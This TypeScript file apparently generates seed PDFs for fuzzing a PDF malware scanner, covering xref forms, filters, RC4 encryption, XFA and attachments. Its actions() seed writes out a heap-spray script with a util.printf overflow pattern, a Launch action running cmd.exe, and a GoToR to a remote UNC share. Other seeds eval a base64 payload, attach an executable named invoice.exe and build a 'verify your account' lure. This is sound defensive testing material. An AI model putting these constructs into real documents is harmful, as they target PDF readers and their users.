// Seed documents for the fuzzer, all built in code: one per structure the reader and the rules take
// different paths for (xref tables and streams, object streams, incremental updates, encryption,
// filters, scripts, forms, attachments, XDP, recovery), so mutations reach each path from a valid start.
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { rc4 } from "../../lib/pdf/crypto/rc4";
import { PdfBuilder, appendUpdate, bytes, crOnly, hexString, wrapInXdp } from "../../lib/pdf/testing/pdf-builder";
import {
  makeZip,
  maliciousPdf,
  pdfWithAttachments,
  PE_FILE,
} from "../../lib/analyzer/embedded/testing/embedded-fixtures";
import { EXPLOIT_RULE_FIXTURES } from "../../lib/analyzer/embedded/testing/exploit-fixtures";
import { TECHNIQUE_FIXTURES } from "../../lib/analyzer/techniques/testing/all-fixtures";
import {
  annotationKitPdf,
  benignFormPdf,
  loopAndFormPdf,
  xfaExploitPdf,
  xfaHeldPayloadPdf,
} from "../../lib/analyzer/javascript/testing/script-fixtures";
import { buildLurePdf } from "../../lib/analyzer/pages/testing/lure-pdf";

export interface Seed {
  name: string;
  bytes: Uint8Array;
}

/** Techniques whose fixtures are not seeds: see buildSeeds. */
const BY_DESIGN_SLOW_TECHNIQUES = new Set(["decompression-bomb"]);

/** Names of the seeds that are the technique catalogue's fixtures (one per carrier): cases.ts picks them as a group. */
export const TECHNIQUE_SEED_PREFIX = "technique:";

function textPage(xref: "table" | "stream" | "none", extra: (b: PdfBuilder) => string = () => ""): Uint8Array {
  const b = new PdfBuilder();
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const content = b.addFlateStream("", "BT /F1 12 Tf 72 720 Td (Quarterly report) Tj ET");
  b.addCatalog(extra(b), 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
  return b.build({ xref });
}

/** Every object in an object stream, the xref a compressed stream with /W [1 4 2]. */
function objectStreams(): Uint8Array {
  const b = new PdfBuilder();
  const action = b.add(`<< /S /JavaScript /JS ${hexString("app.alert('objstm')")} >>`, { inObjStm: true });
  const pages = b.add("<< /Type /Pages /Kids [4 0 R] /Count 1 >>", { inObjStm: true });
  b.root = b.add(`<< /Type /Catalog /Pages ${pages} 0 R /OpenAction ${action} 0 R >>`, { inObjStm: true });
  b.add(`<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 612 792] >>`, { num: 4, inObjStm: true });
  return b.build();
}

/** Streams through each filter of the chain: predictors, ASCII85, ASCIIHex, RunLength, LZW. */
function filterChain(): Uint8Array {
  const b = new PdfBuilder();
  const rows = Uint8Array.from({ length: 4 * 5 }, (_, i) => (i % 5 === 0 ? 2 : i & 0xff));
  const png = b.addStream(
    "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
    new Uint8Array(deflateSync(rows)),
  );
  const hexFlate = b.addStream(
    "/Filter [/AHx /Fl]",
    `${Buffer.from(deflateSync("BT (chained) Tj ET")).toString("hex")}>`,
  );
  const a85 = b.addStream("/Filter /ASCII85Decode", '87cURD]i,"Ebo80~>');
  const rle = b.addStream("/Filter /RunLengthDecode", Uint8Array.of(2, 0x41, 0x42, 0x43, 0xfd, 0x44, 0x80));
  const lzw = b.addStream("/Filter /LZWDecode", Uint8Array.of(0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01));
  const dct = b.addStream(
    "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode",
    Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9),
  );
  const fixtures = [png, hexFlate, a85, rle, lzw, dct].map((n) => `${n} 0 R`).join(" ");
  b.addCatalog(`/Fixtures [${fixtures}]`, 1, `/Resources << /XObject << /Im0 ${dct} 0 R >> >>`);
  return b.build();
}

/** Actions of every kind a rule looks at, in the places readers run them from. */
function actions(): Uint8Array {
  const b = new PdfBuilder();
  const next = b.add(`<< /S /JavaScript /JS (this.exportDataObject\\({cName: "a.exe", nLaunch: 2}\\)) >>`);
  const js = b.addFlateStream(
    "",
    "var s = unescape('%u0c0c%u0c0c'); while (s.length < 0x1000) s += s; util.printf('%45000f', 1.2);",
  );
  const names = b.add(`<< /Names [(init) << /S /JavaScript /JS ${js} 0 R /Next ${next} 0 R >>] >>`);
  const link = b.add(
    "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://198.51.100.7/invoice.php?id=1) >> >>",
  );
  const launch = b.add(
    "<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
  );
  const submit = b.add(
    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 200 100 300] /A << /S /SubmitForm /F (https://collect.example.com/x) >> >>",
  );
  const gotoR = b.add("<< /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\doc.pdf) /D [0 /Fit] >>");
  b.addCatalog(
    `/Names << /JavaScript ${names} 0 R >> /OpenAction ${gotoR} 0 R /AcroForm << /Fields [${submit} 0 R] /NeedAppearances true >>`,
    2,
    `/Annots [${link} 0 R ${launch} 0 R ${submit} 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`,
  );
  return b.build();
}

/** Two incremental updates: a later revision adds a script to the catalog (a shadow-attack shape). */
function incremental(): Uint8Array {
  const base = textPage("table");
  const once = appendUpdate(base, [
    { num: 20, body: `<< /S /JavaScript /JS ${hexString("app.launchURL('http://example.net/', true)")} >>` },
  ]);
  return appendUpdate(once, [{ num: 3, body: "<< /Type /Catalog /Pages 4 0 R /OpenAction 20 0 R >>" }]);
}

const PASSWORD_PAD = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
const md5 = (...parts: Uint8Array[]) => {
  const h = createHash("md5");
  for (const p of parts) h.update(p);
  return new Uint8Array(h.digest());
};

/** RC4 40-bit (R2) with the empty user password (ISO 32000-1 7.6.3.3, Algorithms 1, 2 and 4). */
function rc4Encrypted(): Uint8Array {
  const id = md5(bytes("pdfscan fuzz seed"));
  const owner = rc4(md5(PASSWORD_PAD).subarray(0, 5), PASSWORD_PAD);
  const permissions = Uint8Array.of(0xfc, 0xff, 0xff, 0xff);
  const fileKey = md5(PASSWORD_PAD, owner, permissions, id).subarray(0, 5);
  const objectKey = (num: number) =>
    md5(fileKey, Uint8Array.of(num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0)).subarray(0, 10);
  const seal = (num: number, s: string) => rc4(objectKey(num), bytes(s));
  const hex = (b: Uint8Array) => `<${Buffer.from(b).toString("hex")}>`;
  const b = new PdfBuilder();
  b.add("<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", { num: 1 });
  b.add("<< /Type /Pages /Kids [5 0 R] /Count 1 >>", { num: 2 });
  b.add(`<< /S /JavaScript /JS ${hex(seal(3, "app.alert('sealed')"))} >>`, { num: 3 });
  b.addStream("", seal(4, "BT /F1 12 Tf 72 720 Td (sealed text) Tj ET"), { num: 4 });
  b.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>", { num: 5 });
  b.add(`<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(rc4(fileKey, PASSWORD_PAD))} /P -4 >>`, { num: 6 });
  b.root = 1;
  return b.build({ trailerExtra: `/Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}]` });
}

/** Outlines with /Next chains, a page tree two levels deep, metadata: the linked structures the walks guard. */
function linkedStructures(): Uint8Array {
  const b = new PdfBuilder();
  const xmp = b.addStream(
    "/Type /Metadata /Subtype /XML",
    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:pdf="http://ns.adobe.com/pdf/1.3/" pdf:Producer="fuzz"/></rdf:RDF></x:xmpmeta>`,
  );
  const o2 = b.add("<< /Title (Second) /Parent 9 0 R /Prev 7 0 R >>", { num: 8 });
  b.add(`<< /Title (First) /Parent 9 0 R /Next ${o2} 0 R >>`, { num: 7 });
  b.add("<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>", { num: 9 });
  b.info = b.add("<< /Title (Fuzz seed) /Author (pdfscan) /CreationDate (D:20240101000000Z) >>");
  b.addCatalog(`/Outlines 9 0 R /Metadata ${xmp} 0 R /PageMode /UseOutlines`, 3);
  return crOnly(b.build());
}

/** A content stream with an inline image and operators of each kind the layout reader counts. */
function layout(): Uint8Array {
  const inline = "BI /W 4 /H 4 /BPC 8 /CS /G /F /AHx ID 00ff00ff00ff00ff00ff00ff00ff00ff> EI";
  return textPage(
    "stream",
    (b) =>
      `/Extra ${b.addFlateStream("", `q 1 0 0 1 0 0 cm ${inline} Q BT /F1 9 Tf (x) ' (y) " [(a) -20 (b)] TJ ET 0 0 m 10 10 l S`)} 0 R`,
  );
}

// Large inputs (issue 19, item 6): the crash class of regular expressions over unbounded text came
// from XFA forms with megabyte base64 images; mutations of small seeds never reach those lengths.
/** Length of each large part: far past every regex window, small enough for hundreds of cases. */
const LARGE_PART_BYTES = 768 * 1024;

/** Deterministic base64 text (76-column lines, as XFA writers wrap it) of about `n` characters. */
function base64Text(n: number, wrap = true): string {
  const raw = Buffer.from(
    Uint8Array.from({ length: Math.ceil((n * 3) / 4) }, (_, i) => (i * 2654435761) >>> 24),
  ).toString("base64");
  return wrap ? raw.replace(/.{76}/g, "$&\n") : raw;
}

/** An XFA form whose template holds a large base64 image beside a script and a submit button. */
function xfaLargeImage(): Uint8Array {
  const b = new PdfBuilder();
  const xml =
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="logo"><value><image contentType="image/png">${base64Text(LARGE_PART_BYTES)}</image></value></field>` +
    `<event activity="initialize"><script contentType="application/x-javascript">var v = xfa.resolveNode("form1.logo").rawValue; app.alert(v.length);</script></event>` +
    `<field name="send"><event activity="click"><submit target="https://collect.example.com/f" format="xdp"/></event></field></subform></template></xdp:xdp>`;
  // unfiltered: mutations land in the XML itself
  const xfa = b.addStream("", xml);
  b.addCatalog(`/AcroForm << /Fields [] /XFA ${xfa} 0 R >>`);
  return b.build();
}

/** An opening script that carries its payload as one long base64 literal, decoded at run time. */
function scriptLargeBase64(): Uint8Array {
  const b = new PdfBuilder();
  const js = b.addStream(
    "",
    `var p = "${base64Text(LARGE_PART_BYTES, false)}"; var d = util.stringFromStream(util.streamFromString(p)); eval(d.slice(0, 8));`,
  );
  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${js} 0 R >>`);
  return b.build();
}

/** A literal string with nested parentheses and escapes, a hex string and a name, each long. */
function longStrings(): Uint8Array {
  const chunk = String.raw`Lorem (ipsum) \\ dolor \( sit \r\n \101 amet `;
  const literal = chunk.repeat(Math.ceil(LARGE_PART_BYTES / 2 / chunk.length));
  const hex = "4a6176615363726970743a".repeat(Math.ceil(LARGE_PART_BYTES / 4 / 22));
  const b = new PdfBuilder();
  b.info = b.add(`<< /Title (${literal}) /Subject <${hex}> /Keywords /${"N#41m".repeat(4096)} >>`);
  b.addCatalog(`/URI << /Base (${"https://example.com/".padEnd(64 * 1024, "a")}) >>`);
  return b.build();
}

/** Arrays and dictionaries nested far past every recursion limit, in an object and in a page's content. */
function deepNesting(): Uint8Array {
  const depth = 20_000;
  const b = new PdfBuilder();
  const arrays = b.add(`${"[".repeat(depth)}1${"]".repeat(depth)}`);
  const dicts = b.add(`${"<< /A ".repeat(depth)}1${" >>".repeat(depth)}`);
  const content = b.addFlateStream("", `BT ${"[".repeat(depth)}(x)${"]".repeat(depth)} TJ ET`);
  b.addCatalog(`/Deep [${arrays} 0 R ${dicts} 0 R]`, 1, `/Contents ${content} 0 R`);
  return b.build();
}

/** Seeds built in code; deterministic (the same list, in the same order, on every run). */
export function buildSeeds(): Seed[] {
  const seeds: Seed[] = [
    { name: "text-xref-table", bytes: textPage("table") },
    { name: "text-xref-stream", bytes: textPage("stream") },
    { name: "text-no-xref", bytes: textPage("none") },
    { name: "object-streams", bytes: objectStreams() },
    { name: "filter-chain", bytes: filterChain() },
    { name: "actions", bytes: actions() },
    { name: "incremental-updates", bytes: incremental() },
    { name: "rc4-encrypted", bytes: rc4Encrypted() },
    { name: "linked-structures-cr", bytes: linkedStructures() },
    { name: "layout", bytes: layout() },
    {
      name: "attachments",
      bytes: pdfWithAttachments([
        { name: "invoice.exe", data: PE_FILE },
        { name: "docs.zip", data: makeZip([{ name: "a.js", data: bytes("WScript.Shell") }]), flate: true },
        { name: "inner.pdf", data: maliciousPdf(), via: "annotation" },
      ]),
    },
    { name: "script-annotation-kit", bytes: annotationKitPdf() },
    { name: "script-loop-form", bytes: loopAndFormPdf() },
    { name: "xfa-exploit", bytes: xfaExploitPdf() },
    { name: "xfa-held-payload", bytes: xfaHeldPayloadPdf() },
    { name: "form-benign", bytes: benignFormPdf(4) },
    { name: "xdp-package", bytes: wrapInXdp(textPage("table")) },
    { name: "xfa-large-base64-image", bytes: xfaLargeImage() },
    { name: "script-large-base64", bytes: scriptLargeBase64() },
    { name: "long-strings", bytes: longStrings() },
    { name: "deep-nesting", bytes: deepNesting() },
    {
      name: "lure-links",
      bytes: buildLurePdf({
        pages: [
          {
            lines: ["Your mailbox is full", "Verify your account"],
            links: [{ url: "https://login.example.com/verify", rect: [72, 600, 300, 620] }],
          },
        ],
      }),
    },
  ];
  for (const [id, f] of Object.entries(EXPLOIT_RULE_FIXTURES)) seeds.push({ name: id, bytes: f.build() });
  // every carrier of every technique: the constructs the analysis reads (XFA declarations, script
  // calls, triggers, lures), for the mutators to break and flood. Not the decompression bombs: they
  // cost their decoding budget by design (hostile-inputs.test.ts checks it), and a mutant that
  // decodes 25 MB from a 3 KB file is "slow for its size" without any reader being super-linear
  for (const [technique, carriers] of Object.entries(TECHNIQUE_FIXTURES)) {
    if (BY_DESIGN_SLOW_TECHNIQUES.has(technique)) continue;
    for (const [carrier, build] of Object.entries(carriers))
      seeds.push({ name: `${TECHNIQUE_SEED_PREFIX}${technique}/${carrier}`, bytes: build() });
  }
  return seeds;
}
